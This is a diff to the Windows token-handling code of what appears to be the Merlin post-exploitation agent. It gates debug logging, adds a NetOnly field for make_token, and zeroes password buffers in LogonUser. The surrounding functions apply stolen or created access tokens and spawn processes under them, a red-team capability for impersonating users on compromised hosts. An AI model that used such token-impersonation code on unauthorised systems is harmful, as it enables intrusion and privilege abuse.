@@ -35,6 +35,7 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
 	"github.com/Ne0nd0g/merlin-agent/os/windows/api/advapi32"
 	"github.com/Ne0nd0g/merlin-agent/os/windows/api/user32"
 	"github.com/Ne0nd0g/merlin-agent/os/windows/pkg/pipes"
@@ -70,9 +71,15 @@ const (
 
 var Token windows.Token
 
+// NetOnly is the user name whose credentials a token created with make_token (a new credentials logon) uses for network
+// authentication; the token's own user name is still the agent's user
+var NetOnly string
+
 // ApplyToken applies any stolen or created Windows access token's to the current thread
 func ApplyToken() error {
-	cli.Message(cli.DEBUG, "entering tokens.ApplyToken()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.ApplyToken()")
+	}
 
 	// Verify a token has been created/stolen and assigned to the global variable
 	if Token != 0 {
@@ -86,7 +93,9 @@ func ApplyToken() error {
 // STDOUT/STDERR is redirected to an anonymous pipe and collected after execution to be returned
 // This requires administrative privileges or at least the SE_IMPERSONATE_NAME privilege
 func CreateProcessWithToken(hToken windows.Token, application string, args []string) (stdout string, stderr string) {
-	cli.Message(cli.DEBUG, "entering tokens.CreateProcessWithToken()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.CreateProcessWithToken()")
+	}
 	if application == "" {
 		stderr = "a program must be provided for the CreateProcessWithToken call"
 		return
@@ -398,7 +407,9 @@ func GetCurrentUserAndGroup() (username, group string, err error) {
 
 // GetTokenIntegrityLevel enumerates the integrity level for the provided token and returns it as a string
 func GetTokenIntegrityLevel(token windows.Token) (string, error) {
-	cli.Message(cli.DEBUG, "entering tokens.GetTokenIntegrityLevel()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.GetTokenIntegrityLevel()")
+	}
 	var info byte
 	var returnedLen uint32
 	// Call the first time to get the output structure size
@@ -430,7 +441,9 @@ func GetTokenIntegrityLevel(token windows.Token) (string, error) {
 
 // GetTokenPrivileges enumerates the token's privileges and attributes and returns them
 func GetTokenPrivileges(token windows.Token) (privs []windows.LUIDAndAttributes, err error) {
-	cli.Message(cli.DEBUG, "entering tokens.GetTokenPrivileges()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.GetTokenPrivileges()")
+	}
 	// Get the privileges and attributes
 	// Call to get structure size
 	var returnedLen uint32
@@ -471,7 +484,9 @@ func GetTokenPrivileges(token windows.Token) (privs []windows.LUIDAndAttributes,
 // GetTokenStats uses the GetTokenInformation Windows API call to gather information about the provided access token
 // by retrieving the token's associated TOKEN_STATISTICS structure
 func GetTokenStats(token windows.Token) (tokenStats TOKEN_STATISTICS, err error) {
-	cli.Message(cli.DEBUG, "entering tokens.GetTokenStats()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.GetTokenStats()")
+	}
 	// Determine the size needed for the structure
 	// BOOL GetTokenInformation(
 	//  [in]            HANDLE                  TokenHandle,
@@ -506,7 +521,9 @@ func GetTokenStats(token windows.Token) (tokenStats TOKEN_STATISTICS, err error)
 
 // GetTokenUsername returns the domain and username associated with the provided token as a string
 func GetTokenUsername(token windows.Token) (username string, err error) {
-	cli.Message(cli.DEBUG, "entering tokens.GetTokenUsername()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.GetTokenUsername()")
+	}
 	user, err := token.GetTokenUser()
 	if err != nil {
 		return "", fmt.Errorf("there was an error calling GetTokenUser(): %s", err)
@@ -523,7 +540,9 @@ func GetTokenUsername(token windows.Token) (username string, err error) {
 
 // GetTokenSessionId returns the session ID associated with the token
 func GetTokenSessionId(token windows.Token) (sessionId uint32, err error) {
-	cli.Message(cli.DEBUG, "entering tokens.GetTokenSessionId()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.GetTokenSessionId()")
+	}
 
 	// Determine the size needed for the structure
 	var returnLength uint32
@@ -552,7 +571,9 @@ func GetTokenSessionId(token windows.Token) (sessionId uint32, err error) {
 
 // hasPrivilege checks the provided access token to see if it contains the provided privilege
 func hasPrivilege(token windows.Token, privilege windows.LUID) (has bool, err error) {
-	cli.Message(cli.DEBUG, "entering tokens.hasPrivilege()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.hasPrivilege()")
+	}
 	// Get the privileges and attributes
 	// Call to get structure size
 	var returnedLen uint32
@@ -640,7 +661,9 @@ func ImpersonationToString(level uint32) string {
 // LogonUser creates a new logon session for the user according to the provided logon type and returns a Windows access
 // token for that logon session. This is a wrapper function that includes additional validation checks
 func LogonUser(user string, password string, domain string, logonType uint32, logonProvider uint32) (hToken windows.Token, err error) {
-	cli.Message(cli.DEBUG, "entering tokens.LogonUser()")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "entering tokens.LogonUser()")
+	}
 	if user == "" {
 		err = fmt.Errorf("a username must be provided for the LogonUser call")
 		return
@@ -690,11 +713,13 @@ func LogonUser(user string, password string, domain string, logonType uint32, lo
 	}
 
 	// Convert the password to LPCWSTR
-	pPassword, err := syscall.UTF16PtrFromString(password)
+	password16, err := syscall.UTF16FromString(password)
 	if err != nil {
 		err = fmt.Errorf("there was an error converting the password \"%s\" to LPCWSTR: %s", password, err)
 		return
 	}
+	defer secure.ZeroUint16(password16)
+	pPassword := &password16[0]
 
 	token, err := advapi32.LogonUser(pUser, pDomain, pPassword, logonType, logonProvider)
 	if err != nil {